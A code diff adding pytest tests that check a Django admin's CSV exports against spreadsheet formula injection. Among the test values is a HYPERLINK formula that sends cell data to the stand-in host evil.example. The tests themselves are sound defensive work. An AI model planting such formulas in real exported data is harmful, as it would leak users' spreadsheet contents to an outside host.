@@ -4,11 +4,14 @@ import csv
 import io
 
 import pytest
+from django.contrib import admin
 from django.db import connections
 from django.test.utils import CaptureQueriesContext
+from import_export.admin import ExportMixin
 
-from accounts.models import AuditEntry, User
+from accounts.models import AuditEntry, User, Workspace
 from adminpanel.admin import contacts
+from adminpanel.admin.exporting import SafeExportMixin
 from contacts.exports import sources
 from contacts.models import Contact, ContactField
 from kernel.tenancy import scope
@@ -47,6 +50,20 @@ def test_staff_export_with_the_products_columns_and_it_is_noted(acme, beta, staf
         assert AuditEntry.objects.get(verb="contacts.exported_by_staff").detail == {"number": 1}
     with scope(beta):
         assert not AuditEntry.objects.filter(verb="contacts.exported_by_staff").exists()
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A2,"Open")', "@SUM(1)", "＝1+1"])
+def test_a_workspaces_name_is_no_formula(acme, staff, name):
+    Workspace.objects.filter(pk=acme.pk).update(name=name)
+    form = {"format": "0", "resource": "0"} | {f"workspaceresource_{field}": "on" for field in ("id", "name", "slug")}
+    answer = staff.post("/admin/accounts/workspace/export/", form)
+    (row,) = csv.DictReader(io.StringIO(answer.content.decode()))
+    assert (row["name"], row["slug"]) == ("'" + name, "acme")
+
+
+def test_every_export_of_the_admin_is_safe():
+    admins = [type(one) for one in admin.site._registry.values() if isinstance(one, ExportMixin)]
+    assert admins and all(issubclass(one, SafeExportMixin) for one in admins)
 
 
 def test_there_is_no_import_and_no_change(acme, staff):
